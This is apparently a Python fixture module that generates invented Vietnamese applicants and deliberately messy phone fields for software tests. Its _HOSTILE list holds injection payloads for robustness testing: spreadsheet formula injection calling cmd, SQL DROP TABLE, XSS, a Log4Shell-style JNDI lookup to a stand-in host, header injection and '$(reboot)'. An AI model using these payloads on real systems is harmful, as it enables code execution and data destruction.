"""Invented applicants: Vietnamese names, and phone fields with the dirt of reality beside the true number.

Numbers are made up at random; none is ever texted outside the simulated phone network.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from itertools import pairwise
from random import Random

_FAMILY = (
    *("Nguyễn",) * 12,
    *("Trần",) * 4,
    *("Lê",) * 4,
    *("Phạm",) * 3,
    *(
        "Huỳnh",
        "Võ",
        "Phan",
        "Trương",
        "Bùi",
        "Đặng",
        "Đỗ",
        "Ngô",
        "Hồ",
        "Dương",
        "Đinh",
        "Đoàn",
        "Mai",
        "Cao",
    ),
)
_MIDDLE_WOMEN = ("Thị", "Thị", "Thị Thu", "Thị Ngọc", "Ngọc", "Thanh", "Thùy", "Bích", "Kim", "Thị Mỹ")
_MIDDLE_MEN = ("Văn", "Văn", "Hữu", "Đức", "Minh", "Quốc", "Thanh", "Ngọc", "Xuân", "Đình", "Công")
_WOMEN = (
    "Lan",
    "Hương",
    "Thảo",
    "Phượng",
    "Yến",
    "Trang",
    "Nga",
    "Hạnh",
    "Tuyết",
    "Diễm",
    "Oanh",
    "Quyên",
    "Vy",
)
_MEN = (
    "Hùng",
    "Dũng",
    "Cường",
    "Tuấn",
    "Sơn",
    "Hải",
    "Phúc",
    "Long",
    "Khánh",
    "Thắng",
    "Đạt",
    "Nghĩa",
    "Lộc",
)
_TRADES = (
    *(
        "Thương mại và Dịch vụ",
        "Xây dựng",
        "Du lịch",
        "Thủy sản",
        "Vận tải biển",
        "Đầu tư",
        "Sản xuất yến sào",
    ),
    *("Tư vấn thiết kế", "Cơ khí đóng tàu", "Bất động sản", "In và Quảng cáo"),
)
_BRANDS = (
    *(
        "Hải Yến Nha Trang",
        "Trầm Hương",
        "Vịnh Cam Ranh",
        "Hòn Chồng",
        "Tháp Bà",
        "Vân Phong Xanh",
        "Biển Đông",
    ),
    *("Thiên Phú", "An Phát", "Minh Quang", "Sao Biển", "Nam Trung", "Đại Lãnh", "Hoàng Gia"),
)

# Weighted as people use them. 052, 055 and 095 are left out: no test of ours should hang on a doubtful block.
_PREFIXES = (
    *("090", "093", "070", "077", "079", "076", "078", "0896", "0898", "0899"),
    *("091", "094", "081", "082", "083", "084", "085", "088"),
    *("096", "097", "098", "086", "032", "033", "034", "035", "036", "037", "038", "039"),
    *("092", "056", "059", "0993", "0995", "087"),
)
_OLD_PREFIXES = {
    # As the Ministry announced for 15/9/2018: old 11-digit prefix → prefix today.
    **{"0120": "070", "0121": "079", "0122": "077", "0126": "076", "0128": "078"},
    **{"0123": "083", "0124": "084", "0125": "085", "0127": "081", "0129": "082"},
    **{f"016{digit}": f"03{digit}" for digit in "23456789"},
    **{"0186": "056", "0188": "058", "0199": "059"},
}
_DUMMIES = ("0900000000", "0123456789", "0987654321", "0912345678", "0999999999", "0909090909", "0888888888")
_BROKERS = ("0914207316", "0935862047", "0983516402")
"""Numbers of service firms that file for many people: true numbers, shared."""


@dataclass(frozen=True, slots=True)
class Phone:
    """What stands in a phone field, and what is true.

    ``written``: the field as the desk typed it. ``number``: where the applicant can truly be texted, E.164,
    ``None`` where there is no such number. ``entered_at``: only where it was typed in long before the
    dossier. ``good``: the written field leads, by the rules of the field, to ``number``.
    """

    kind: str
    written: str | None
    number: str | None
    good: bool
    entered_at: datetime | None = None


@dataclass(frozen=True, slots=True)
class Applicant:
    """Who applies."""

    name: str
    phone: Phone


def _digits(random: Random, count: int) -> str:
    return "".join(random.choices("0123456789", k=count))


def _plain(number: str) -> bool:
    """Whether no rule about dummies could take the number for one."""
    tail = number[-7:]
    steps = {(int(b) - int(a)) % 10 for a, b in pairwise(tail)}
    return len(set(tail)) >= 4 and len(steps) >= 3 and tail[:2] * 3 != tail[:6]


def mobile(random: Random) -> str:
    """A mobile number of today, national format, ten digits."""
    while True:
        prefix = random.choice(_PREFIXES)
        number = prefix + _digits(random, 10 - len(prefix))
        if _plain(number):
            return number


def _landline(random: Random) -> str:
    """A landline of Khánh Hòa as it is dialled since 2017, eleven digits."""
    return "0258" + random.choice("33336257") + _digits(random, 6)


def international(number: str) -> str:
    """A national number in E.164."""
    return "+84" + number.removeprefix("0")


def _full_width(number: str) -> str:
    return "".join(chr(ord(digit) + 0xFEE0) for digit in number)


_SPELLINGS: tuple[tuple[str, int, Callable[[str], str]], ...] = (
    ("plain", 40, lambda n: n),
    ("dotted", 10, lambda n: f"{n[:4]}.{n[4:7]}.{n[7:]}"),
    ("spaced", 10, lambda n: f"{n[:4]} {n[4:7]} {n[7:]}"),
    ("dashed", 5, lambda n: f"{n[:4]}-{n[4:7]}-{n[7:]}"),
    (
        "comma_or_slash",
        2,
        lambda n: f"{n[:4]},{n[4:7]},{n[7:]}" if int(n[-1]) % 2 else f"{n[:4]}/{n[4:7]}/{n[7:]}",
    ),
    ("plus_84", 6, lambda n: f"+84{n[1:]}"),
    ("84", 5, lambda n: f"84{n[1:]}"),
    ("84_bracket", 2, lambda n: f"(+84) {n[1:4]} {n[4:7]} {n[7:]}"),
    ("0084", 1, lambda n: f"0084{n[1:]}"),
    ("84_and_0", 1, lambda n: f"84 (0) {n[1:]}"),
    ("zero_missing", 4, lambda n: n[1:]),
    ("letter_o_first", 2, lambda n: f"O{n[1:]}"),
    ("letters_inside", 2, lambda n: n[0] + n[1:].replace("0", "O").replace("1", "l")),
    ("labelled", 4, lambda n: f"ĐT: {n}"),
    ("full_width", 1, _full_width),
    ("odd_blanks", 2, lambda n: f"\u00a0{n[:4]}\u00a0{n[4:7]}\t{n[7:]} "),
    ("full_stop", 2, lambda n: f"{n}."),
)


def _good(random: Random) -> Phone:
    number = mobile(random)
    (kind, _, spell) = random.choices(_SPELLINGS, weights=[weight for _, weight, _ in _SPELLINGS])[0]
    return Phone(f"good_{kind}", spell(number), international(number), good=True)


def _missing(random: Random) -> Phone:
    spellings = (
        None,
        None,
        "",
        " ",
        "không có",
        "Không",
        "ko",
        "ko có",
        "0",
        "x",
        "-",
        "chưa có",
        "K",
        ".",
        "không có sđt",
    )
    return Phone("missing", random.choice(spellings), _perhaps(random), good=False)


def _perhaps(random: Random) -> str | None:
    """Whose field is useless mostly owns a mobile all the same."""
    return international(mobile(random)) if random.random() < 0.8 else None


def _landline_phone(random: Random) -> Phone:
    number = _landline(random)
    hanoi = "024" + random.choice("3367") + _digits(random, 7)
    written = random.choice(
        (
            number,
            f"{number[:4]}.{number[4:]}",
            f"({number[:4]}) {number[4:]}",
            f"{number[:4]} {number[4:7]} {number[7:]}",
            hanoi,
        )
    )
    return Phone("landline", written, _perhaps(random), good=False)


def _old_mobile(random: Random) -> Phone:
    old, today = random.choice(list(_OLD_PREFIXES.items()))
    while not _plain(tail := _digits(random, 7)):
        pass
    written = random.choice((old + tail, old + tail, f"{old}.{tail[:3]}.{tail[3:]}", f"84{old[1:]}{tail}"))
    return Phone("old_eleven_digits", written, international(today + tail), good=True)


def _ambiguous(random: Random) -> Phone:
    """058 and a digit in use by landlines of Khánh Hòa: a landline without its 02, or a Vietnamobile."""
    tail = random.choice("234567") + _digits(random, 6)
    owner = international("058" + tail) if random.random() < 0.5 else _perhaps(random)
    return Phone("ambiguous_058", f"058{tail}" if random.random() < 0.6 else f"058.{tail}", owner, good=False)


def _mobile_058(random: Random) -> Phone:
    number = "058" + random.choice("0189") + _digits(random, 6)
    return Phone("good_058", number, international(number), good=True)


def _old_profile(random: Random) -> Phone:
    """Typed into the applicant's profile before the renumbering: 058 was the landline code of Khánh Hòa."""
    entered = datetime(
        random.choice((2015, 2016, 2017)),
        random.randint(1, 12),
        random.randint(1, 28),
        3,
        tzinfo=UTC,
    )
    written = "058" + random.choice("336") + _digits(random, 6)
    return Phone("old_profile_landline", written, _perhaps(random), good=False, entered_at=entered)


def _identity_card(random: Random) -> Phone:
    written = "225" + _digits(random, 6) if random.random() < 0.6 else "0560" + _digits(random, 8)
    return Phone("identity_card", written, _perhaps(random), good=False)


def _two_numbers(random: Random) -> Phone:
    first, second, fixed = mobile(random), mobile(random), _landline(random)
    written = random.choice(
        (
            f"{first}/{second}",
            f"{first} - {second}",
            f"{first} hoặc {second}",
            f"{first}; {fixed}",
            f"{fixed} , {first}",
            first + second,
        )
    )
    return Phone("two_numbers", written, international(first), good=True)


def _two_with_tail(random: Random) -> Phone:
    number = mobile(random)
    return Phone("two_numbers_short_tail", f"{number}-{_digits(random, 2)}", international(number), good=True)


def _with_note(random: Random) -> Phone:
    number, card = mobile(random), "225" + _digits(random, 6)
    written = random.choice(
        (
            f"{number} (chị Lan)",
            f"{number} (con trai)",
            f"gọi buổi sáng {number}",
            f"CMND {card} DT {number}",
            f"Zalo {number}",
        )
    )
    return Phone("with_note", written, international(number), good=True)


def _dummy(random: Random) -> Phone:
    return Phone("dummy", random.choice(_DUMMIES), _perhaps(random), good=False)


def _service_number(random: Random) -> Phone:
    return Phone(
        "service_number",
        random.choice(("19001091", "18001091", "113", "1080", "9029")),
        _perhaps(random),
        good=False,
    )


def _broken(random: Random) -> Phone:
    number = mobile(random)
    written = random.choice(
        (number[:-1], number[:-3], number + _digits(random, 1), "0905771*** (con)", "abc", f"{number[:7]}…")
    )
    return Phone("broken", written, international(number), good=False)


def _no_phone(random: Random) -> Phone:
    written = random.choice(("lan.nguyen@example.vn", "MST 4200456789", "160915001", "12/05/1980", "STK 0561000123456"))
    return Phone("not_a_phone", written, _perhaps(random), good=False)


def _foreign(random: Random) -> Phone:
    return Phone("foreign", random.choice(("+1 415 555 0132", "+82 10 5550 1234", "+61 491 570 156")), None, good=False)


def _broker(random: Random) -> Phone:
    number = random.choice(_BROKERS)
    return Phone("broker", number, international(number), good=True)


def _stranger(random: Random) -> Phone:
    """A slip of one digit: a valid number, of somebody else."""
    while True:
        number = mobile(random)
        place = random.randint(5, 9)
        written = number[:place] + str((int(number[place]) + random.randint(1, 9)) % 10) + number[place + 1 :]
        if _plain(written):
            return Phone("stranger", written, international(number), good=False)


_KINDS: tuple[tuple[Callable[[Random], Phone], float], ...] = (
    (_good, 66.0),
    (_missing, 10.0),
    (_landline_phone, 8.0),
    (_old_mobile, 4.0),
    (_ambiguous, 2.0),
    (_mobile_058, 0.5),
    (_old_profile, 0.7),
    (_identity_card, 1.5),
    (_two_numbers, 1.5),
    (_two_with_tail, 0.5),
    (_with_note, 1.5),
    (_dummy, 1.2),
    (_service_number, 0.3),
    (_broken, 0.8),
    (_no_phone, 0.4),
    (_foreign, 0.3),
    (_broker, 0.8),
    (_stranger, 0.5),
)


def phone(random: Random) -> Phone:
    """A phone field as desks fill it: about 70 % good mobiles, 10 % missing, 8 % landlines, the rest odd."""
    make = random.choices([make for make, _ in _KINDS], weights=[weight for _, weight in _KINDS])[0]
    return make(random)


def mended(random: Random, before: Phone) -> Phone | None:
    """The field after the desk asked the applicant again; ``None`` for an applicant who has no mobile."""
    if before.number is None:
        return None
    number = "0" + before.number.removeprefix("+84")
    return Phone(
        "mended",
        number if random.random() < 0.7 else f"{number[:4]}.{number[4:7]}.{number[7:]}",
        before.number,
        good=True,
    )


def name(random: Random, *, business: bool = False) -> str:
    """A person's name or a firm's, NFC."""
    if business:
        form = random.choice(("Công ty TNHH", "Công ty Cổ phần", "Công ty TNHH MTV", "Doanh nghiệp tư nhân"))
        return f"{form} {random.choice(_TRADES)} {random.choice(_BRANDS)}"
    if random.random() < 0.5:
        parts = (random.choice(_FAMILY), random.choice(_MIDDLE_WOMEN), random.choice(_WOMEN))
    else:
        parts = (random.choice(_FAMILY), random.choice(_MIDDLE_MEN), random.choice(_MEN))
    return " ".join(parts)


_HOSTILE = (
    '=HYPERLINK("http://example.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE dossiers;--",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{dossier_code} {{ 7*7 }} ${jndi:ldap://example.invalid/a} %(phone)s %s %n",
    "Trần\x07 Văn\x1b[31m Đỏ\r\nX-Header: 1",
    "\u202enưgnơhP \u2066ìhT\u2069 ặĐ\u200b\ufeff\u0085",
    "👨‍👩‍👧‍👦 Gia đình \U0001f9ff",
    "\\N\\.\\\\' \" ; ` $(reboot)",
)


def hostile_text(random: Random) -> str:
    """Text that breaks careless software: markup, formulas, control characters, up to 200,000 letters."""
    if random.random() < 0.3:
        return "Ngô Văn Dài " * random.choice((400, 4_000, 16_000))
    return random.choice(_HOSTILE)


def applicant(random: Random, *, business: bool = False) -> Applicant:
    """An applicant; some names come decomposed (NFD) or shouted, as pasted from elsewhere."""
    written, chance = name(random, business=business), random.random()
    if chance < 0.05:
        written = unicodedata.normalize("NFD", written)
    elif chance < 0.15:
        written = written.upper()
    return Applicant(written, phone(random))
